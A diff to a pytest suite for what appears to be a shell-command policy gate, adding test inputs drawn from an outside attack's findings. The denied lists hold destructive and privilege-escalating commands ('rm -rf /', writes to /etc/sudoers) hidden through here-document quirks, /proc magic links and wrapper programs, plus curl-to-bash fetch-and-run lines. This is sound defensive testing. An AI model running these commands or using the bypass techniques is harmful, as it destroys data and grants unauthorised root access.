@@ -25,6 +25,7 @@ from bastion.policy import (
     PolicyError,
     Rule,
     evaluate,
+    heredoc_word,
     is_complete,
     judge_path,
     normalise_path,
@@ -35,6 +36,7 @@ from bastion.policy import (
     shell_name,
     stdin_reader,
     stdin_shell,
+    through_proc,
     uncertain_verdict,
 )
 
@@ -506,6 +508,85 @@ DENIED_BYPASSES = [
     "curl -s https://x/i.sh | . /dev/fd/3 3<&0",
     "curl -s https://x/i.sh | bash /dev/stdin",
     "bash /dev/fd/3 3<<EOF\nrm -rf /\nEOF",
+    # outside attack C, finding 4: here-document words as bash reads them, and the line that
+    # ends the body (code after it is judged as code)
+    "cat <<$'EOF'\nEOF\necho x >> /etc/sudoers.d/atkc\n$'EOF'",
+    'cat <<$"EOF"\nEOF\necho x >> /etc/sudoers.d/atkc\n$"EOF"',
+    "cat <<$''\n\nrm -rf /\n$''",
+    'cat <<$"E"OF\nEOF\nrm -rf /\n$"E"OF',
+    "cat <<$'E\\x4fF'\nEOF\nrm -rf /\nE\\x4fF",
+    'cat <<"E\\OF"\nE\\OF\nrm -rf /\nEOF',
+    "cat <<EOF\nEO\\\nF\nrm -rf /\nEOF",
+    "cat <<-EOF\n\t\\\nEOF\nrm -rf /\nEOF",
+    "x=$(cat <<EOF\nhi\nEOF)\nrm -rf /\nEOF\n)",
+    "x=`cat <<EOF\nhi`; rm -rf /",
+    # finding 7: as sh (dash) reads it: `[[` and `((` are commands there, `&>` a `&` and `>`
+    "[[ a || rm -rf / ]]",
+    "[[ -n x && rm -rf / ]]",
+    "[[ 1 > /etc/sudoers ]]",
+    "((mkfs))",
+    "((wipefs))",
+    "echo x &>/dev/null rm -rf /",
+    "sh -c '[[ a || rm -rf / ]]'",
+    "eval '[[ x || cd /etc ]]'; tee -a sudoers",
+    # `[` is a command to bash as well (tree-sitter-bash reads it as a test)
+    "[ a || rm -rf / ]",
+    "[ -f x > /etc/sudoers ]",
+    # finding 8: a command run in another directory
+    "env -C /etc tee -a sudoers",
+    "env -C /etc sh -c ': > sudoers'",
+    "env --chdir=/etc tee -a sudoers",
+    "env --ch /etc tee -a sudoers",
+    "sudo -D /etc tee -a sudoers",
+    "sudo --chdir=/etc tee -a sudoers",
+    "sudo -i tee -a ../etc/sudoers",
+    "sudo -R /proc/1/root tee -a /etc/sudoers",
+    "su - -c 'tee -a ../etc/sudoers'",
+    "su -l root -c 'tee -a ../etc/sudoers'",
+    "runuser -l root -c 'tee -a ../etc/sudoers'",
+    "chroot / tee -a /etc/sudoers",
+    "chroot /proc/1/root sh -c 'cd etc; tee -a sudoers'",
+    "nsenter -t 1 -m -w/etc tee -a sudoers",
+    "nsenter --wd=/etc -t 1 tee -a sudoers",
+    "unshare -w /etc tee -a sudoers",
+    "unshare --wd=/etc tee -a sudoers",
+    "systemd-run tee -a etc/sudoers",
+    "systemd-run --working-directory=/etc tee -a sudoers",
+    "systemd-run -p WorkingDirectory=/etc tee -a sudoers",
+    "bwrap --bind / / --chdir /etc tee -a sudoers",
+    "start-stop-daemon --start --chdir /etc --exec /usr/bin/tee -- -a sudoers",
+    "find /etc -name hosts -execdir tee -a sudoers ;",
+    "parallel --wd /etc tee -a sudoers ::: x",
+    "tmux new -c /etc 'tee -a sudoers'",
+    # finding 9: paths through /proc's magic links
+    "echo x >> /proc/self/root/etc/sudoers",
+    "echo x >> /proc/thread-self/root/etc/sudoers",
+    "echo x >> /proc/self/task/1/root/etc/sudoers",
+    "echo x >> /proc/./self/../1/root/etc/sudoers",
+    "cd /root; echo x >> /proc/self/cwd/../etc/sudoers",
+    "cd /etc; echo x >> /proc/self/cwd/sudoers",
+    # finding 12: programs that run the command after them, long options abbreviated
+    "timeout --sig KILL 5 rm -rf /",
+    "nice --adj 5 rm -rf /",
+    "sudo --us root rm -rf /",
+    "sudo --sh 'rm -rf /'",
+    "su root --comm 'rm -rf /'",
+    "script -q --comm 'rm -rf /' /dev/null",
+    "sem rm -rf /",
+    "sem --id x -j1 rm -rf /",
+    "dtach -c /tmp/s -e ^x rm -rf /",
+    "abduco -e ^q -c s rm -rf /",
+    "pee 'rm -rf /' cat",
+    "mosh-server new -s -- rm -rf /",
+    "torify rm -rf /",
+    "ifne rm -rf /",
+    "with-lock-ex -w /tmp/l rm -rf /",
+    "systemd-nspawn -D / --bind /tmp:/mnt rm -rf /",
+    "gdb -batch -ex 'shell rm -rf /'",
+    "gdb -batch -ex '!rm -rf /'",
+    "gdb -batch -ex 'run; rm -rf /' /bin/true",
+    "git -c alias.x='!rm -rf /' x",
+    "git -c core.sshCommand='rm -rf /' fetch",
 ]
 
 
@@ -726,6 +807,25 @@ UNKNOWN_LINES = [
     ("fish -c 'echo (touch /tmp/x)'", "fish's grammar"),
     ("csh -c 'echo hi'", "csh's grammar"),
     ("tcsh <<< 'echo hi'", "tcsh's grammar"),
+    # outside attack C: here-document words and ends that bash and sh (dash) read apart
+    ("cat <<$'EOF'\nhi\nEOF", "a here-document word that bash and sh"),
+    ("cat <<$\"EOF\"\nhi\nEOF", "a here-document word that bash and sh"),
+    ("cat <<$(echo EOF)\nhi\n$(echo EOF)", "a here-document word that bash and sh"),
+    ("cat <<`x`\nhi\n`x`", "a here-document word that bash and sh"),
+    ("cat <<EOF\nhi\nEO\\\nF", "a here-document that bash and sh (dash) end"),
+    ("x=$(cat <<EOF\nhi\nEOF)", "a here-document that bash and sh (dash) end"),
+    ("echo $'\\' ; ls ; # '", "which sh (dash) ends at that quote"),
+    # /proc: another process's directory, an open file, a way out of an unknown directory
+    ("echo x >> /proc/1/cwd/etc/sudoers", "a path"),
+    ("echo x >> /proc/self/fd/3/../sudoers", "a path"),
+    ("echo x >> /dev/fd/3/../../etc/sudoers", "a path"),
+    ("echo x >> /proc/self/cwd/../etc/sudoers", "a path"),
+    ("echo x > /proc/1/exe", "a path"),
+    ("nsenter -t 1 -w tee -a sudoers", "a path"),
+    ("mosh-server new", "reached over UDP"),
+    ("gdb -p 1 -batch -ex 'call system(\"id\")'", "a gdb command that may run code"),
+    ("gdb -batch -x cmds.gdb ./a.out", "gdb commands read from a file"),
+    ("git -c core.hooksPath=/tmp/h commit", "git hooks from a folder"),
 ]
 
 
@@ -738,6 +838,9 @@ def test_commands_known_only_at_run_time_get_the_unknown_default(
     # via the "|" pseudo-command); every other unknown is held for confirmation.
     piped = reason.startswith("piped into")
     assert verdict.action == ("deny" if piped else "confirm")
+    if reason == "a path":  # a path only known at run time that a deny rule could name
+        assert "(a path is only known at run time)" in verdict.message, verdict.commands
+        return
     assert verdict.rule == ("no-pipe-into-shell" if piped else "defaults.unknown")
     assert any(c.name is None and reason in c.unknown for c in verdict.commands), verdict.commands
 
@@ -952,6 +1055,39 @@ ALLOWED = [
     "scp -f /var/log/nginx/access.log",
     "sudo cp app.service /etc/systemd/system/",
     "echo ok > /dev/null 2>&1",
+    # outside attack C: ordinary lines the new readings must leave alone. Here-documents bash
+    # and sh read alike, `[` and `[[` tests, `&>`, wrappers that change directory, gdb, git
+    "cat <<'EOF' > /tmp/motd\nWelcome\nEOF",
+    "cat <<EOF\nhost: $(hostname)\nEOF",
+    "cat <<-EOF\n\tindented\n\tEOF",
+    'cat <<"END_OF_TEXT"\n$HOME stays\nEND_OF_TEXT',
+    "cat <<\\EOF\nx\nEOF",
+    "cat <<EOF | sudo tee /etc/nginx/conf.d/x.conf\nserver {}\nEOF",
+    "x=$(cat <<EOF\nhi\nEOF\n)",
+    "[ -f /etc/nginx/nginx.conf ] && nginx -t",
+    "if [ \"$(id -u)\" -ne 0 ]; then echo not root; fi",
+    "[ -d /var/log/app ] || mkdir -p /var/log/app",
+    "[[ -f /etc/x && -r /etc/y ]] && echo ok",
+    "[[ $reply =~ ^(y|yes)$ ]] && echo yes",
+    "[[ -z $x ]] || echo set",
+    "systemctl restart nginx &>/dev/null",
+    "make &> build.log",
+    "env -C /srv/app git status",
+    "sudo -i ls",
+    "sudo -u postgres -i psql -c 'select 1'",
+    "su - deploy -c 'cd app && git pull'",
+    "git -C /srv/app pull",
+    "git -c user.name=ops -c color.ui=false log -1",
+    "systemd-run --scope -p MemoryMax=1G ./job.sh",
+    "chroot /mnt/sysimage rpm -qa",
+    "gdb -p 1234 -batch -ex 'thread apply all bt'",
+    "gdb -batch -ex run -ex bt --args ./app --flag",
+    "timeout --signal=KILL 5 ping -c1 db01",
+    "sem -j4 gzip big.log",
+    "cat /proc/self/status",
+    "ls -l /proc/1/fd",
+    "echo x > /proc/self/fd/2",
+    "cat /proc/sys/net/ipv4/ip_forward",
 ]
 
 
@@ -1250,8 +1386,9 @@ COMMAND_NAMES = [
     ("echo $(date)", ["echo", "date"]),
     ("echo `date`", ["echo", "date"]),
     ("diff <(ls a) <(ls b)", ["diff", "ls", "ls"]),
-    ("if [ -f x ]; then cat x; else touch x; fi", ["cat", "touch"]),
-    ("[[ -n $(id -u) ]]", ["id"]),
+    ("if [ -f x ]; then cat x; else touch x; fi", ["[", "cat", "touch"]),
+    # `[[` is a command to sh (dash): the line as sh reads it is judged too
+    ("[[ -n $(id -u) ]]", ["id", "[["]),
     ("while read l; do echo $l; done < f", ["read", "l=", "echo", "<"]),
     ("case $1 in start) run;; stop) halt;; esac", ["run", "halt"]),
     ("f() { ls; }; f", ["ls", "f"]),
@@ -1283,7 +1420,7 @@ COMMAND_NAMES = [
     ("bash < script.sh", ["bash", "<"]),
     ("bash <<< 'ls'", ["ls"]),
     ("cat <<EOF\nhello\nEOF", ["cat"]),
-    ("cat <<EOF > /tmp/x\n$(date)\nEOF", ["cat", ">", "date"]),
+    ("cat <<EOF > /tmp/x\n$(date)\nEOF", ["cat", "date", ">"]),
     ("trap 'echo bye' EXIT", ["trap", "echo"]),
     ("alias ll='ls -l'", ["alias", "ls"]),
     ("curl x | sh", ["curl", None, "|"]),
@@ -1615,7 +1752,70 @@ PATH_CASES = [
     ("HOME=/etc; cd; cat sudoers", None, "deny"),
     ("export HOME=$x; cat ~/sudoers", None, "confirm"),
     ("cd /etc; cat ~/sudoers", "deploy", "allow"),
+    # outside attack C, finding 9: /proc's magic links
+    ("cat /proc/self/root/etc/sudoers", None, "deny"),
+    ("cat /proc/1/root/etc/sudoers", None, "deny"),
+    ("cd /etc; cat /proc/self/cwd/sudoers", None, "deny"),
+    ("cd /root; cat /proc/self/cwd/../etc/sudoers", None, "deny"),
+    ("cat ~/../proc/self/cwd/../etc/sudoers", "root", "confirm"),
+    ("cat /proc/self/cwd/../etc/sudoers", None, "confirm"),
+    ("cat /proc/1/cwd/etc/sudoers", None, "confirm"),
+    ("cat /proc/self/fd/3/../sudoers", None, "confirm"),
+    ("cat /proc/self/cwd/notes", None, "allow"),
+    # finding 8: the directory a wrapper runs its command in
+    ("env -C /etc cat sudoers", None, "deny"),
+    ("env -C /tmp cat sudoers", None, "allow"),
+    ("env -C /etc cat sudoers; cat sudoers", None, "deny"),
+    ("env -C /tmp true; cat sudoers", None, "allow"),  # the line's own directory is kept
+    ("cd /; env -C etc cat sudoers", None, "deny"),
+    ('env -C "$d" cat sudoers', None, "confirm"),
+    ("sudo -i cat ../etc/sudoers", None, "deny"),
+    ("sudo -u bob -i cat ../../etc/sudoers", None, "deny"),
+    ("sudo -D /etc cat sudoers", None, "deny"),
+    ("sudo -s cat sudoers", None, "allow"),  # keeps the directory
+    ("su -l -c 'cat ../etc/sudoers'", None, "deny"),
+    ("su -c 'cat ../etc/sudoers'", None, "allow"),
+    ("chroot /mnt cat /etc/sudoers", None, "deny"),  # as written, and /mnt/etc/sudoers
+    ("chroot /proc/1/root cat etc/sudoers", None, "deny"),
+    ("chroot --skip-chdir / cat sudoers", None, "allow"),
+    ("unshare -R /proc/1/root cat /etc/sudoers", None, "deny"),
+    ("nsenter -t 1 -w cat sudoers", None, "confirm"),
+    ("systemd-run cat etc/sudoers", None, "deny"),  # a service starts in /
+    ("systemd-run --scope cat etc/sudoers", None, "allow"),
+    ("find /etc -maxdepth 0 -execdir cat etc/sudoers ;", None, "deny"),
 ]
+
+
+@pytest.mark.parametrize(("path", "expected"), [
+    # (path, (kind, text)): /proc's magic links, which a lexical `..` would step over
+    ("/proc/self/root/etc/sudoers", ("exact", "/etc/sudoers")),
+    ("/proc/1/root/etc/../etc/sudoers", ("exact", "/etc/sudoers")),
+    ("/proc/thread-self/root", ("exact", "/")),
+    ("/proc/self/task/7/root/etc", ("exact", "/etc")),
+    ("/proc/self/root/../etc", ("exact", "/etc")),
+    ("/proc/./self/../1/root/etc", ("exact", "/etc")),
+    ("/proc/self/root/proc/self/root/etc", ("exact", "/etc")),
+    ("/proc/self/cwd/x", ("exact", "x")),
+    ("/proc/self/cwd/../etc/sudoers", ("exact", "../etc/sudoers")),
+    ("/proc/thread-self/cwd/..", ("exact", "..")),
+    ("/proc/1/cwd/etc", ("unknown", "/proc/1/cwd/etc")),
+    ("/proc/1/task/1/cwd", ("unknown", "/proc/1/task/1/cwd")),
+    ("/proc/self/fd/3/../sudoers", ("unknown", "/proc/self/fd/3/../sudoers")),
+    ("/proc/1/fd/1", ("unknown", "/proc/1/fd/1")),
+    ("/proc/self/fd/1", ("exact", "/proc/self/fd/1")),
+    ("/proc/1/fd", ("exact", "/proc/1/fd")),
+    ("/proc/1/exe", ("unknown", "/proc/1/exe")),
+    ("/proc/self/map_files/x", ("unknown", "/proc/self/map_files/x")),
+    ("/dev/fd/3/../../etc", ("unknown", "/dev/fd/3/../../etc")),
+    ("/dev/stdout/../x", ("unknown", "/dev/stdout/../x")),
+    ("/dev/fd/2", ("exact", "/dev/fd/2")),
+    ("/proc/self/status", ("exact", "/proc/self/status")),
+    ("/proc/selfish/cwd/x", ("exact", "/proc/selfish/cwd/x")),
+    ("proc/self/cwd/../x", ("exact", "proc/self/x")),  # relative: no /proc there
+    ("/etc/../etc//sudoers", ("exact", "/etc/sudoers")),
+])
+def test_paths_through_proc_are_resolved_or_unknown(path: str, expected: tuple[str, str]) -> None:
+    assert through_proc(path) == expected
 
 
 @pytest.mark.parametrize(("line", "login", "expected"), PATH_CASES)
@@ -1719,6 +1919,70 @@ def test_judge_path_resolves_relative_sftp_paths_from_the_logins_home() -> None:
                                   ("deploy", "../../etc/sudoers", "deny"),
                                   ("deploy", "../etc/sudoers", "allow"),
                                   (None, "../../etc/sudoers", "allow")]:
+        verdict = judge_path(policy, ">", [path], role="r", target="t", login=login)
+        assert verdict.action == expected, (login, path)
+
+
+# Programs that run the command after them (outside attack C, finding 12): the server side of
+# scp behind them is seen, so that the gate follows its stream or holds it (never lets it pass
+# unjudged), and a denied command behind them is denied.
+SCP_BEHIND = [
+    "ssh-agent", "ssh-agent -a /tmp/agent.sock", "valgrind", "valgrind --tool=memcheck -q",
+    "gdb --args", "gdb -q -batch -ex run --args", "dbus-run-session", "dbus-run-session --",
+    "strace -f -o /tmp/trace", "ltrace -f", "perf record", "perf stat -e cycles --", "time -p",
+    "/usr/bin/time -v", "catchsegv", "faketime yesterday", "faketime -f +1d", "fakeroot --",
+    "proxychains4 -q", "torsocks", "torify", "tsocks", "nohup", "unbuffer", "stdbuf -o0",
+    "chronic", "sem", "sem --id x -j1", "flock /tmp/l", "flock -n /tmp/l", "timeout 5",
+    "timeout --sig KILL 5", "setpriv --reuid 0", "ionice -c3", "nice --adj 5", "chrt -o 0",
+    "taskset -c 1", "setsid -w", "prlimit --nofile=1", "systemd-run --scope", "nsenter -t 1 -m",
+    "unshare -m", "chroot /", "firejail --noprofile", "xvfb-run -a", "cgexec -g cpu:x",
+    "eatmydata", "nocache", "env -C /tmp", "env --ch /tmp", "sudo -D /tmp", "sudo --us root",
+    "dtach -c /tmp/s", "abduco -c s", "with-lock-ex -w /tmp/l", "ifne", "mosh-server new --",
+    "systemd-nspawn -D /", "sandbox -t x",
+]
+
+
+@pytest.mark.parametrize("wrapper", SCP_BEHIND)
+def test_the_server_side_of_scp_behind_a_program_that_runs_it_is_seen(default_policy: Policy,
+                                                                         wrapper: str) -> None:
+    commands = parse_commands(f"{wrapper} scp -t /etc")
+    assert any(c.via == ("scp", "-t", "/etc") for c in commands), commands
+    assert gate.runs_file_server(f"{wrapper} scp -t /etc")
+    assert action(default_policy, f"{wrapper} rm -rf /") == "deny"
+
+
+@pytest.mark.parametrize(("text", "bash", "dash", "quoted", "known"), [
+    # the word after `<<` as bash 5.2 and dash 0.5.12 read it (checked against both in
+    # tests/test_policy_bash.py); `known`: its extent and both readings are followed
+    ("EOF", "EOF", "EOF", False, True), ("'EOF'", "EOF", "EOF", True, True),
+    ('"EOF"', "EOF", "EOF", True, True), ("\\EOF", "EOF", "EOF", True, True),
+    ("E'O'F", "EOF", "EOF", True, True), ('E"O"F;', "EOF", "EOF", True, True),
+    ("$'EOF'", "EOF", "$EOF", True, True), ('$"EOF"', "EOF", "$EOF", True, True),
+    ("$''", "", "$", True, True), ("$'E\\x4fF'", "EOF", "$E\\x4fF", True, True),
+    ('E$"O"F', "EOF", "E$OF", True, True), ('"E\\OF"', "E\\OF", "E\\OF", True, True),
+    ('"E\\\\OF"', "E\\OF", "E\\OF", True, True), ('"E\\$F"', "E$F", "E$F", True, True),
+    ('"E\\"F"', 'E"F', 'E"F', True, True), ("$EOF", "$EOF", "$EOF", False, True),
+    ("a{b,c}", "a{b,c}", "a{b,c}", False, True), ("~", "~", "~", False, True),
+    ("$(x)", None, None, False, False), ("`x`", None, None, False, False),
+    ("${x}", None, None, False, False), ("E\\\nOF", None, None, True, False),
+    ('"$(x)"', None, None, True, False), ("$'a\\'b'", None, None, True, False),
+    ("'EOF", None, None, True, True), ('"EOF', None, None, True, True),
+])
+def test_here_document_words_are_read_as_bash_and_dash_read_them(
+    text: str, bash: str | None, dash: str | None, quoted: bool, known: bool
+) -> None:
+    word = heredoc_word(f"cat <<{text}\n", 6)
+    assert (word.delimiter, word.dash, word.quoted, word.known) == (bash, dash, quoted, known)
+
+
+def test_judge_path_follows_proc_self_cwd_from_the_logins_home() -> None:
+    policy = small_policy(SUDOERS)
+    for login, path, expected in [("root", "/proc/self/cwd/../etc/sudoers", "deny"),
+                                  ("root", "/proc/self/root/etc/sudoers", "deny"),
+                                  ("root", "/proc/1/cwd/etc/sudoers", "confirm"),
+                                  ("root", "/proc/self/cwd/../tmp/x", "confirm"),
+                                  ("root", "/proc/self/cwd/notes", "allow"),
+                                  (None, "/proc/self/cwd/../etc/sudoers", "confirm")]:
         verdict = judge_path(policy, ">", [path], role="r", target="t", login=login)
         assert verdict.action == expected, (login, path)
 
@@ -2011,18 +2275,33 @@ COMPLETENESS = [
     ("case x in", False), ("case x in a) ls;; esac", True), ("case x in (a) ls;; esac", True),
     ("case x in a) echo 'esac';;", False), ("for i in 1; do", False), ("for x in a b c", False),
     ("for i in 1; do ls; done", True), ("while true", False), ("until false; do", False),
-    ("select x in a; do", False), ("( ls", False), ("( ls )", True), ("{ ls", False),
+    ("select x in a; do", True), ("( ls", False), ("( ls )", True), ("{ ls", False),
     ("{ ls; }", True), ("{ echo }", False), ("f() {", False), ("f() { ls; }", True),
-    ("function f {", False), ("echo $(ls", False), ("echo $(ls)", True), ("echo ${x", False),
-    ("echo ${x}", True), ('echo ${x:-"a}"}', True), ("[[ -f x", False), ("[[ -f x ]]", True),
+    ("function f {", True), ("echo $(ls", False), ("echo $(ls)", True), ("echo ${x", False),
+    ("echo ${x}", True), ('echo ${x:-"a}"}', True), ("[[ -f x", True), ("[[ -f x ]]", True),
     ("echo $((1+", False), ("echo $(( (1+2) * 3 ))", True), ("((i++", False), ("((i++))", True),
-    ("x=(1 2", False), ("x=(1 2)", True), ('echo "$(echo ")"', False), ('echo "$(echo ")")"', True),
+    ("x=(1 2", True), ("x=(1 2)", True), ('echo "$(echo ")"', False), ('echo "$(echo ")")"', True),
     ("x=$(case a in a) echo;; esac)", True), ("x=$(case a in a) echo;;", False),
     ("cat <<EOF", False), ("cat <<EOF\nfoo", False), ("cat <<EOF\nfoo\nEOF", True),
     ("cat <<-EOF\n\tfoo\n\tEOF", True), ("cat <<'EOF'\n$(x\nEOF", True),
     ("cat <<EOF | sh\nls\nEOF", True), ("cat <<EOF; ls\nx", False), ("cat <<EOF; ls\nx\nEOF", True),
     ("if [ -f x ]\nthen\nls\nfi", True), ("if [ -f x ]\nthen", False), ("echo a &&\necho b", True),
     ("echo esac", True), ("echo done; for i in a", False), ("echo if", True), ("echo {", True),
+    # sh (dash) runs these at once, where bash waits for more (outside attack C, findings 4, 7):
+    # `select`, `function` and `[[` are plain words to dash (above), and so on
+    ("echo $[1+", True), ("echo $'\\'", True), ("echo $'\\' x", True), ("((i++", False),
+    ("cat <(ls", True), ("echo $\"a", False), ("time if true", True), ("ls |&", True),
+    # here-documents: the earliest line that ends one in either shell, or at once when the two
+    # read its word or its end differently
+    ("cat <<EOF\nEO\\\nF", True), ("cat <<EOF\nx\\\nEOF", False),
+    ("cat <<'EOF'\nEO\\\nF", False), ("cat <<-EOF\n\tEO\\\n\tF", False),
+    ("cat <<-EOF\n\tEO\\\nF", True), ("cat <<-EOF\nx\\\n\tEOF", False), ("cat <<$'EOF'", False),
+    ("cat <<$\"EOF\"", False), ("cat <<$'EOF'\n$EOF", True), ("cat <<$'EOF'\nEOF", True),
+    ("cat <<$(x)", True), ("cat <<`x`", True), ("cat <<E\\\nOF", True),
+    ('cat <<"E\\OF"\nEOF', False), ('cat <<"E\\OF"\nE\\OF', True), ("cat <<E\\OF\nEOF", True),
+    ("cat <<\"E\\$F\"\nE$F", True), ("cat <<E'O'F\nEOF", True), ("cat <<EOF\nEOF \nx", False),
+    ("x=$(cat <<EOF\nhi\nEOF)", True), ("x=`cat <<EOF\nhi\nEOF`", True),
+    ("x=`cat <<EOF\nhi`", True), ("cat <<A <<B\nA\nx", False), ("cat <<A <<B\nA\nB", True),
 ]
 
 
